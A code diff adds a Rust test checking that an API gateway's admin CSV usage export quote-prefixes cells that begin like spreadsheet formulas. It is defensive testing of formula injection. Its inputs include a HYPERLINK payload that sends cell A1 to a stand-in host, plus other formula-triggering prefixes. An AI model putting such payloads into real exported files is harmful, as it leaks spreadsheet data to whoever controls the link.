@@ -91,6 +91,51 @@ async fn limits_and_prices_are_shown() {
     );
 }
 
+/// A client chooses the name of the model behind a pattern, and a spreadsheet must not execute it.
+#[tokio::test]
+async fn no_cell_of_a_csv_begins_like_a_formula() {
+    let harness = Harness::new("");
+    let models = [
+        "=HYPERLINK(\"http://x/\"&A1,\"click\"),1",
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\u{ff1d}1",
+        "gpt-5",
+    ];
+    let opened = |(number, model): (usize, &&str)| accounting::Opened {
+        request_id: format!("req_{number:04}"),
+        model: (*model).to_owned(),
+        key: "-1".to_owned(),
+        ..accounting::Opened::default()
+    };
+    let batch = accounting::Batch {
+        entries: models
+            .iter()
+            .enumerate()
+            .map(|row| opened(row).into())
+            .collect(),
+        shipped: None,
+    };
+    let accounting = harness.gateway.state.accounting.as_ref().unwrap();
+    accounting.store.append(batch).await.unwrap();
+    let exported = harness.get("/admin/v1/usage/rows?format=csv").await.body;
+    let mut reader = csv::Reader::from_reader(exported.as_bytes());
+    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
+    let cells: Vec<_> = rows.iter().map(|row| &row[8]).collect();
+    let [formulas @ .., plain] = &models;
+    let quoted = formulas.iter().map(|model| format!("'{model}"));
+    let owed: Vec<_> = quoted.chain([(*plain).to_owned()]).collect();
+    assert_eq!(cells, owed);
+    assert!(rows.iter().all(|row| &row[6] == "'-1"));
+    // JSON is no spreadsheet.
+    let lines = harness.get("/admin/v1/usage/rows").await.body;
+    let first: Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
+    assert_eq!(first["model"], models[0]);
+}
+
 #[tokio::test]
 async fn an_export_of_several_pages_has_each_row_once() {
     let harness = Harness::new("");
